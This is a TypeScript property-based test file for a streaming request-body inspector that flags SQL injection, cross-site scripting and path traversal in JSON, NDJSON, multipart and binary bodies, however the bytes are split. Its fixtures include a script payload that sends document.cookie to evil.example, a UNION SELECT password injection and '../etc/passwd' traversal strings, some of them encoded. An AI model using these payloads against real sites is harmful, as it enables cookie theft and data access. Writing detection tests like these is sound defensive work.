import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { createInspect } from '../inspect-value.ts'
import { openArrivingBody } from './arriving-body.ts'
import { TextRuns } from './text-runs.ts'

const inspect = createInspect()
const runs = Number(process.env['FUZZ_RUNS'] ?? 200)

function look(type: string, parts: readonly Uint8Array[]): string | null {
  const body = openArrivingBody(type, inspect)
  if (body === null) throw new Error('a type that is looked at as it comes')
  for (const part of parts) {
    const hit = body.add(part)
    if (hit !== null) return `${hit.found.attack} in ${hit.where}`
    if (!body.isReadable) return 'unreadable'
  }
  const hit = body.end()
  return hit === null ? (body.isReadable ? null : 'unreadable') : `${hit.found.attack} in ${hit.where}`
}

const cutAt = (bytes: Uint8Array, cuts: readonly number[]): readonly Uint8Array[] => {
  const places = [0, ...cuts.map((cut) => cut % (bytes.length + 1)).toSorted((one, other) => one - other), bytes.length]
  return places.slice(1).map((end, at) => bytes.subarray(places[at] ?? 0, end))
}

const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
const union = "1' UNION SELECT password FROM users--"
const escaped = [...script].map((sign) => `\\u00${sign.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
const base64 = Buffer.from(script).toString('base64')
const wide = [...'../../../../etc/passwd'].map((sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)).join('')
const prose = 'The parcel stood at the door, und niemand war zu Hause. '.repeat(400)
const json = 'application/json'
const form = 'multipart/form-data; boundary=X'
const part = (head: string, data: string) => `--X\r\nContent-Disposition: form-data; ${head}\r\n\r\n${data}\r\n`
const noise = Buffer.from(Array.from({ length: 5000 }, (_, at) => (at * 7919 + (at >> 3) * 104_729) & 0xff))

const rows: readonly (readonly [name: string, type: string, body: string | Uint8Array, said: string | null])[] = [
  ['a text of JSON', json, JSON.stringify({ items: [{}, { name: union }] }), 'sql-injection in body.items[1].name'],
  ['escapes of JSON', json, `{"note":"${escaped}"}`, 'cross-site-scripting in body.note'],
  ['base64 in JSON', json, JSON.stringify({ a: [base64] }), 'cross-site-scripting in body.a[0]'],
  ['full-width signs', json, JSON.stringify({ file: wide }), 'path-traversal in body.file'],
  [
    'a name of JSON',
    json,
    JSON.stringify({ [script]: 1 }),
    'cross-site-scripting in the name body.?script?fetch?????evil.example????docume',
  ],
  ['an attack behind a long text', json, JSON.stringify({ a: prose, b: script }), 'cross-site-scripting in body.b'],
  [
    'an attack within a long text',
    json,
    JSON.stringify({ a: `${prose}${prose}${prose}${prose}${script}${prose}` }),
    'cross-site-scripting in body.a',
  ],
  ['escapes within a long text', json, `{"a":"${prose.repeat(4)}${escaped}"}`, 'cross-site-scripting in body.a'],
  ['clean JSON', json, JSON.stringify({ a: prose, b: ["O'Brien & Sons; select <3"], c: 12.5 }), null],
  ['what is no JSON', json, `{"a":1,}${script}`, 'unreadable'],
  ['a line of JSON', 'application/x-ndjson', `${JSON.stringify({ a: 1 })}\n${JSON.stringify({ b: union })}\n`, 'sql-injection in body.b'],
  ['clean lines', 'application/jsonl', '{"a":1}\n{"a":"two"}\n', null],
  ['a field of a form', form, `${part('name="q"', union)}--X--`, 'sql-injection in body.q'],
  [
    'the name of a file',
    form,
    `${part('name="f"; filename="../../../etc/passwd"', 'x')}--X--`,
    'path-traversal in the file name of body.f',
  ],
  [
    'a file of a form',
    form,
    `${part('name="f"; filename="a.svg"', `<svg>${prose}${script}</svg>`)}--X--`,
    'cross-site-scripting in body.f',
  ],
  ['a long field of a form', form, `${part('name="q"', `${prose.repeat(4)}${script}`)}--X--`, 'cross-site-scripting in body.q'],
  ['a delimiter that is none', form, `${part('name="q"', `<script\r\n--Y>alert(1)</script>`)}--X--`, 'cross-site-scripting in body.q'],
  ['a clean form', form, `${part('name="q"', 'parcels')}${part('name="f"; filename="a.txt"', prose)}--X--`, null],
  ['a form without a beginning', form, `hello ${script}`, 'unreadable'],
  ['text in a file', 'application/octet-stream', `${prose}${script}`, 'cross-site-scripting in body'],
  ['text among other bytes', 'image/png', Buffer.concat([noise, Buffer.from(script), noise]), 'cross-site-scripting in body'],
  ['text in two bytes a sign', 'application/octet-stream', Buffer.from(script, 'utf16le'), 'cross-site-scripting in body'],
  ['a short file', 'application/octet-stream', "1' or '1'='1", 'sql-injection in body'],
  ['bytes of no meaning', 'application/octet-stream', noise, null],
]

describe('what comes in parts is looked at as the whole is', () => {
  test.each(rows)('%s', (_name, type, body, said) => {
    const bytes = Buffer.from(body)
    expect(look(type, [bytes])).toBe(said)
    if (bytes.length < 20_000) {
      expect(
        look(
          type,
          [...bytes].map((byte) => Uint8Array.of(byte)),
        ),
      ).toBe(said)
      for (let at = 0; at < bytes.length; at += bytes.length > 3000 ? 97 : 1)
        expect(look(type, [bytes.subarray(0, at), bytes.subarray(at)])).toBe(said)
    }
    fc.assert(
      fc.property(fc.array(fc.nat(), { maxLength: 8 }), (cuts) => {
        expect(look(type, cutAt(bytes, cuts))).toBe(said)
      }),
      { numRuns: bytes.length > 100_000 ? 8 : 40 },
    )
  })
})

const values = fc.oneof(
  fc.constantFrom(
    script,
    union,
    escaped,
    base64,
    wide,
    'name',
    "O'Brien",
    '%3Cscript%3E',
    '&lt;img src=x onerror=go()&gt;',
    '\\',
    '{{7*7}}',
  ),
  fc.string({ unit: 'binary' }),
  fc.string(),
)

test('wherever any body is cut, the same is said', () => {
  const bodies = fc.oneof(
    fc.record({
      type: fc.constant(json),
      body: fc.array(fc.dictionary(values, values, { maxKeys: 3 }), { maxLength: 3 }).map((list) => Buffer.from(JSON.stringify(list))),
    }),
    fc.record({
      type: fc.constant('application/x-ndjson'),
      body: fc.array(values, { maxLength: 3 }).map((list) => Buffer.from(list.map((one) => `${JSON.stringify(one)}\n`).join(''))),
    }),
    fc.record({
      type: fc.constant(form),
      body: fc
        .array(fc.tuple(fc.constantFrom('name="a"', 'name="b"; filename="c.txt"'), values), { maxLength: 3 })
        .map((list) => Buffer.from(`${list.map(([head, data]) => part(head, data)).join('')}--X--`)),
    }),
    fc.record({
      type: fc.constant('application/octet-stream'),
      body: fc
        .array(
          fc.oneof(
            values.map((one) => Buffer.from(one)),
            fc.uint8Array({ maxLength: 40 }).map((one) => Buffer.from(one)),
          ),
          { maxLength: 5 },
        )
        .map((list) => Buffer.concat(list)),
    }),
  )
  fc.assert(
    fc.property(bodies, fc.array(fc.nat(), { maxLength: 8 }), ({ type, body }, cuts) => {
      expect(look(type, cutAt(body, cuts))).toBe(look(type, [body]))
    }),
    { numRuns: runs },
  )
})

test('runs of text are the same, wherever bytes are cut', () => {
  const shown = (parts: readonly Uint8Array[]): string => {
    let text = ''
    const reader = new TextRuns((one) => {
      text += one
    })
    for (const one of parts) reader.add(one)
    reader.end()
    return text
  }
  const bytes = fc
    .array(
      fc.oneof(
        fc.uint8Array({ maxLength: 6 }),
        fc.string({ unit: 'grapheme', minLength: 8, maxLength: 30 }).map((one) => Buffer.from(one)),
        fc.constant(Buffer.alloc(2)),
      ),
      { maxLength: 8 },
    )
    .map((list) => Buffer.concat(list))
  fc.assert(
    fc.property(bytes, fc.array(fc.nat(), { maxLength: 8 }), (whole, cuts) => {
      expect(shown(cutAt(whole, cuts))).toBe(shown([whole]))
    }),
    { numRuns: runs * 5 },
  )
  expect(shown([Buffer.from('short')])).toBe('short')
  expect(shown([Buffer.from('short\u0001a text of more than twenty signs\u0001\u0001and one that follows it, as long')])).toBe(
    'a text of more than twenty signs\nand one that follows it, as long',
  )
})
